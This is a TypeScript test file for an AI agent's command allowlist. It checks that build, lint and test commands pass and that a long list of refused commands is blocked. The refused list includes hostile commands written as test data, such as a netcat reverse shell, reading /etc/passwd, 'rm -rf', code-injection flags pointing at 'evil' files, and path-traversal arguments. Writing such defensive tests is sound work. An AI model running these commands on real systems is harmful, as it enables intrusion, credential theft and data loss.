import { describe, expect, it } from 'vitest';
import { type Judged, judgeCommand } from '../../../../../src/engines/agent/commands/allow.ts';
import type { Controls } from '../../../../../src/engines/agent/commands/controls.ts';

const ROOT = '/work/tree';

const SCRIPTS: Readonly<Record<string, 'same' | 'changed'>> = {
  test: 'same',
  lint: 'same',
  build: 'same',
  'test:unit': 'same',
  edited: 'changed',
};

function controls(changed: readonly string[] = []): Controls {
  return {
    isChanged: async (file) => changed.includes(file),
    script: async (name) => (Object.hasOwn(SCRIPTS, name) ? SCRIPTS[name] : undefined) ?? 'absent',
  };
}

async function judge(line: string, changed: readonly string[] = []): Promise<Judged> {
  return judgeCommand(line.split(' '), { root: ROOT, controls: controls(changed) });
}

const ALLOWED = `
npm test
npm t
npm run test
npm run lint
npm run test:unit
npm run-script build
npm --silent test
npm test -- -t name
npm test -- src/a.test.ts --coverage
npm run lint -- --max-warnings 0
npm exec -- vitest run
pnpm test
pnpm lint
pnpm exec eslint src
pnpm vitest run
yarn test -t name
yarn run build
bun run test
npx vitest run
npx vitest run src/a.test.ts -t name
npx --no-install jest --runInBand a.test.js
npx tsc --noEmit
npx tsc --noEmit -p tsconfig.json
npx eslint . --max-warnings=0
npx prettier --check .
npx biome check src
npx mocha --recursive
bunx vitest run
vitest run
node_modules/.bin/vitest run
./node_modules/.bin/jest
node --test
node --test --test-name-pattern=x test/a.test.js
node --check src/a.js
node -c src/a.js
pytest
pytest -q tests/test_a.py::test_one
pytest -xvs -k one
.venv/bin/pytest -q
.venv/bin/python -m pytest
python -m pytest -x
python3 -m unittest discover -s tests
uv run pytest -q
uv run --frozen python -m pytest
poetry run mypy src
ruff check .
ruff check --select E501 src
ruff format --check .
mypy --strict src
flake8 src
pylint -E src
black --check .
isort --check-only .
go test ./...
go test -run TestA -race -count=1 ./pkg/...
go test --run TestA
go build ./...
go vet ./...
gofmt -l .
cargo test
cargo test --workspace -- --nocapture
cargo clippy --all-targets -- -D warnings
cargo fmt --check
cargo build --release
cargo check -p core
make test
make -j4 lint
make test-unit
make typecheck
`;

const REFUSED = `
sh -c id
bash -c id
zsh -c id
env npm test
FOO=bar npm test
sudo npm test
xargs npm test
timeout 5 npm test
/bin/sh
/usr/bin/npm test
./run.sh
scripts/test.sh
../npm test
node_modules/.bin/../../evil
cat /etc/passwd
ls
find . -exec id {} +
grep -r x .
rg --pre id x
sed -i s/a/b/ a
awk BEGIN{system("id")}
curl https://example.com
wget example.com
git status
git commit -m x
git -c core.pager=id log
gh pr create
ssh host
nc -e /bin/sh host
pip install x
rm -rf .
node -e 1
node --eval=1
node -p 1
node -r ./evil.js --test
node --require=./evil.js --test
node --import ./evil.mjs --test
node --import=data:text/javascript,1 --test
node --loader ./evil.mjs --test
node --experimental-loader=./evil.mjs --test
node --env-file=.env --test
node --inspect --test
node --test --test-reporter=./evil.mjs
node --test -- evil
node evil.js
node
npm install
npm i evil
npm ci
npm publish
npm config set x y
npm start
npm run absent
npm run edited
npm exec -- evil
npm exec -c id
npm x -- sh
npm test --script-shell=/bin/evil
npm test --script-shell=evil
npm test --node-options=--require=./evil.js
npm --prefix .. test
npm -C .. test
npm test --prefix=sub
npm test -w pkg
npm test -- --config evil.js
npm test -- -c evil.js
npm test -- --globalSetup=./evil.js
npm test -- --require ./evil.js
npm test -- -r ./evil.js
npm test -- --eval 1
npm test -- --outputFile=x
npm test -- ../outside
npm test -- --reporter ./evil.js
npm set-script x y
npm pkg set scripts.test=evil
yarn dlx evil
yarn add evil
yarn absent
yarn node evil.js
pnpm dlx evil
pnpm --dir .. test
bun evil.ts
bun run edited
npx evil
npx --package=evil vitest
npx -p evil vitest
npx -c id
npx vitest@latest run
npx vitest
npx vitest run --config ./evil.ts
npx vitest run -c evil.ts
npx vitest run --root ..
npx vitest run --globalSetup ./evil.ts
npx vitest run --outputFile=x
npx vitest run --ui
npx vitest run --inspect-brk
npx jest --config {}
npx jest -c evil.js
npx jest --rootDir=/
npx jest --globalSetup=./evil.js
npx jest --testRunner=./evil.js
npx jest --transform={}
npx jest --setupFiles ./evil.js
npx mocha --require ./evil.js
npx mocha -r ./evil.js
npx mocha --config evil.js
npx mocha --node-option=require=./evil.js
npx ava --node-arguments=--eval
npx tsc
npx tsc --noEmit false
npx tsc --outDir ..
npx tsc --noEmit --outFile x
npx tsc --build
npx tsc @args.txt
npx eslint --fix .
npx eslint -c evil.js .
npx eslint --config=evil.js .
npx eslint --rulesdir evil .
npx eslint --resolve-plugins-relative-to evil .
npx eslint --plugin evil .
npx eslint --parser ./evil.js .
npx eslint -o out .
npx eslint --format ./evil.js .
npx prettier --write .
npx prettier .
npx prettier --check --config evil.js .
npx prettier --check --plugin=./evil.js .
npx biome check --write
npx biome check --config-path=/tmp
npx biome migrate
npx tsx evil.ts
npx ts-node evil.ts
python -c print
python evil.py
python -m http.server
python -m pip install x
python -i
python -m pytest -p evil
python -X importtime -m pytest
pytest -p evil
pytest -pevil
pytest -c evil.ini
pytest --rootdir=/
pytest --rootdir=sub
pytest -o python_files=x
pytest --override-ini=x=y
pytest --confcutdir=x
pytest --basetemp=x
pytest --junitxml=x
pytest --pdb
pytest --pyargs os
pytest @args
pytest -qp evil
uv run evil
uv run --with evil pytest
uv pip install x
uv run sh
poetry run bash
poetry add x
ruff check --fix
ruff check --config x=1
ruff format .
ruff check --output-file=x
ruff server
mypy -c 1
mypy --config-file=evil.ini
mypy --python-executable=./evil
mypy --install-types
mypy --junit-xml=x
flake8 --config=evil
pylint --init-hook=evil src
pylint --load-plugins=evil src
pylint --rcfile=evil src
black .
isort .
go run .
go generate ./...
go test -exec ./evil ./...
go test --exec=./evil ./...
go test -toolexec ./evil ./...
go build -toolexec=./evil ./...
go build -o ../x
go build -o x
go test -o x
go test -c
go test -C .. ./...
go test -coverprofile=x
go test -args x
go vet -vettool=./evil
go get evil
go install evil
go env -w X=y
go build -ldflags=-X ./...
go build -overlay=x ./...
gofmt -w .
gofmt
gofmt -l -w .
cargo run
cargo install evil
cargo +nightly test
cargo test --config evil
cargo test --config=build.rustc-wrapper="evil"
cargo test -Z unstable
cargo build --target-dir=../x
cargo build --manifest-path ../Cargo.toml
cargo clippy --fix
cargo test -- --logfile=x
cargo publish
make
make -j4
make -f evil.mk test
make -fevil.mk test
make --file=evil.mk test
make --eval=x:;id test
make -C .. test
make -I x test
make SHELL=/bin/evil test
make CC=evil test
make install
make deploy
make all
`;

const lines = (text: string): readonly string[] => text.trim().split('\n');

describe('the list of commands', () => {
  it.each(lines(ALLOWED))('allows %s', async (line) => {
    expect(await judge(line)).not.toHaveProperty('refused');
  });

  it.each(lines(REFUSED))('refuses %s', async (line) => {
    expect(await judge(line)).toHaveProperty('refused');
  });

  it('says where the program is', async () => {
    expect(await judge('npx vitest run a.test.ts')).toEqual({
      place: 'node',
      program: 'vitest',
      args: ['run', 'a.test.ts'],
    });
    expect(await judge('.venv/bin/python -m pytest')).toMatchObject({
      place: 'python',
      program: 'python',
    });
    expect(await judge('uv run pytest -q')).toEqual({
      place: 'path',
      program: 'uv',
      args: ['run', 'pytest', '-q'],
    });
  });

  it('says what to do instead', async () => {
    expect(await judge('cat a.txt')).toEqual({
      refused: 'cat is not among the allowed programs: use read_file',
    });
    expect(await judge('bash -c x')).toMatchObject({
      refused: expect.stringContaining('no shell'),
    });
    expect(await judge('npx vitest run --ui')).toMatchObject({
      refused: expect.stringContaining('the flag --ui is not allowed; allowed are --run'),
    });
  });

  it.each([
    ['npm test', '.npmrc'],
    ['yarn test', '.yarnrc.yml'],
    ['make test', 'Makefile'],
    ['cargo test', '.cargo/config.toml'],
  ])('does not run %s once the job changed %s', async (line, file) => {
    expect(await judge(line)).not.toHaveProperty('refused');
    expect(await judge(line, [file])).toMatchObject({ refused: expect.stringContaining(file) });
  });

  it('holds arguments to the tree', async () => {
    const arg = async (last: string) =>
      judgeCommand(['npx', 'vitest', 'run', last], { root: ROOT, controls: controls() });
    const inside = ['src/a.test.ts', './src', `${ROOT}/src/a.test.ts`, 'a..b', '...', 'src/...'];
    for (const each of inside) expect([each, await arg(each)]).not.toHaveProperty('1.refused');
    const outside = [
      '/etc/passwd',
      '../x',
      'a/../../x',
      '~/x',
      '~root/x',
      '-t=/etc/passwd',
      '-t/etc',
      'x=../y',
      'file:///etc',
      'https://example.com',
      '//host/x',
      `${ROOT}x/y`,
      `${ROOT}/../x`,
      '.git/config',
      'a\nb',
      'a\0b',
      '..\\x',
      'x'.repeat(5000),
    ];
    for (const each of outside) expect([each, await arg(each)]).toHaveProperty('1.refused');
    const many = await judgeCommand(['npx', 'vitest', 'run', ...Array(300).fill('a')], {
      root: ROOT,
      controls: controls(),
    });
    expect(many).toHaveProperty('refused');
  });

  it('takes names of an object’s own for no rule', async () => {
    for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty', '']) {
      expect(await judgeCommand([name], { root: ROOT, controls: controls() })).toHaveProperty(
        'refused',
      );
      expect(await judge(`python -m ${name}`)).toHaveProperty('refused');
      expect(await judge(`yarn ${name}`)).toHaveProperty('refused');
    }
  });
});
